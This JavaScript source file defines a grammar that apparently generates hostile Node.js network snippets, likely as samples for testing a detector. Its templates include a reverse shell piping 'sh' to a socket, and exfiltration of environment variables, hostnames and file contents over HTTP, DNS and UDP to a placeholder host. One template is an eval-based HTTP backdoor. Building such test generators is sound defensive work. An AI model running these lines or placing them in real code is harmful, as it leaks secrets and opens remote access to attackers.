// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the notation of scripts
import { codeGenerator, JAVASCRIPT } from '../code-generator.js';

/** Node: connects somewhere. */
export const jsNetwork = codeGenerator({
  name: 'js-network',
  places: JAVASCRIPT,
  rules: {
    start: [
      "{open}require('{http}').get('http://{host}/'+{secret}){end}",
      "{open}require('net').connect({port},'{host}'){end}",
      "{open}(function(){l}var n=require('net'),s=require('child_process').spawn('sh',[]);var c=new n.Socket();c.connect({port},'{host}',function(){l}c.pipe(s.stdin);s.stdout.pipe(c){r}){r})(){end}",
      "{open}require('dns').lookup({secret}+'.{host}',()=>{l}{r}){end}",
      "{open}fetch('http://{host}/?'+{secret}){end}",
      "{open}require('dns').resolve('{letters}.{host}',console.log){end}",
      "{open}require('{http}').request({l}host:'{host}',port:{port}{r}).end({secret}){end}",
      "{open}require('tls').connect({port},'{host}'){end}",
      "{open}require('http').createServer((q,r)=>r.end(eval(q.url))).listen({port}){end}",
      "{open}var s=new (require('net').Socket)();s.connect({port},'{host}'){end}",
      "{open}require('dgram').createSocket('udp4').send({secret},{port},'{host}'){end}",
    ],
    http: ['http', 'https', 'node:http'],
    secret: [
      'process.env.SECRET',
      'JSON.stringify(process.env)',
      "require('os').hostname()",
      'process.cwd()',
      "require('fs').readFileSync('{file}')",
    ],
  },
});
